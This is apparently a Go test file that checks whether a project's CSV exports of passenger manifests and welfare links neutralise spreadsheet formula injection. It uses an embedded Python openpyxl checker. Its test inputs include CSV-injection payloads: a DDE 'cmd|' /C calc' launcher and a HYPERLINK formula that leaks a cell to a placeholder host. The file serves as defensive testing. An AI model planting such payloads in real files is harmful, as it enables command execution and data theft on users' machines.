package export_test

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/outpost-org/outpost/internal/outpost"
	"github.com/outpost-org/outpost/internal/report"
	"github.com/outpost-org/outpost/internal/service/welfare"
)

// hostile are names a careless or hostile registrar could type: each one
// would run in a spreadsheet if it came out raw.
var hostile = []string{
	`=HYPERLINK("http://x/?"&E2,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`  =1+1`,
}

// spreadsheetCheck loads a CSV as a spreadsheet program would, through
// openpyxl (a cell whose text starts with = becomes a formula), saves
// and reopens the workbook, and prints every cell that is a formula, and
// every cell that would start one in Excel (= + - @, tab or CR first).
const spreadsheetCheck = `
import csv, sys, openpyxl
wb = openpyxl.Workbook()
ws = wb.active
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    for r, row in enumerate(csv.reader(f), 1):
        for c, v in enumerate(row, 1):
            ws.cell(row=r, column=c, value=v)
wb.save(sys.argv[2])
bad = 0
for row in openpyxl.load_workbook(sys.argv[2]).active.iter_rows():
    for cell in row:
        v = cell.value
        if cell.data_type == 'f':
            print('formula', cell.coordinate, repr(v)); bad += 1
        elif isinstance(v, str) and v and (v[0] in '\t\r' or v.lstrip()[:1] in ('=', '+', '-', '@')):
            print('would run', cell.coordinate, repr(v)); bad += 1
print('cells checked' if bad == 0 else 'unsafe cells: %d' % bad)
sys.exit(1 if bad else 0)
`

// pythonWithOpenpyxl returns a Python that has openpyxl (Debian's
// python3-openpyxl is installed for /usr/bin/python3), or skips the test
// outside CI; in CI the reader must be there.
func pythonWithOpenpyxl(t *testing.T) string {
	t.Helper()
	for _, py := range []string{"/usr/bin/python3", "python3"} {
		if exec.Command(py, "-c", "import openpyxl").Run() == nil {
			return py
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("python3 with openpyxl is needed to check the CSV exports (apt-get install python3-openpyxl)")
	}
	t.Skip("no python3 with openpyxl: install python3-openpyxl to run this test")
	return ""
}

func TestExportedCSVHasNoFormulaInASpreadsheet(t *testing.T) {
	py := pythonWithOpenpyxl(t)
	var m outpost.Manifest
	var scope []outpost.ScopeEntry
	for i, h := range hostile {
		m.Passengers = append(m.Passengers, outpost.Passenger{Household: h, ID: "RU-000" + string(rune('1'+i)),
			FamilyName: h, GivenName: h, Nationality: "RU", Passport: h, BirthDate: "1980-01-01", Medical: i % 4})
		scope = append(scope, outpost.ScopeEntry{Person: h, GivenName: h, FamilyName: h, Mission: h})
	}
	var manifest, links bytes.Buffer
	if err := report.ManifestCSV(&manifest, m); err != nil {
		t.Fatal(err)
	}
	if err := welfare.WriteLinks(&links, welfare.Links{Secret: []byte("k"), BaseURL: "https://post.example"}, 3, scope); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"manifest": manifest.Bytes(), "links": links.Bytes()} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			in := filepath.Join(dir, name+".csv")
			if err := os.WriteFile(in, data, 0o600); err != nil {
				t.Fatal(err)
			}
			out, err := exec.Command(py, "-c", spreadsheetCheck, in, filepath.Join(dir, name+".xlsx")).CombinedOutput()
			if err != nil {
				t.Fatalf("a spreadsheet would run cells of the %s export:\n%s\n%s", name, out, data)
			}
			if !strings.Contains(string(out), "cells checked") {
				t.Fatalf("the reader did not check the file: %s", out)
			}
		})
	}
}
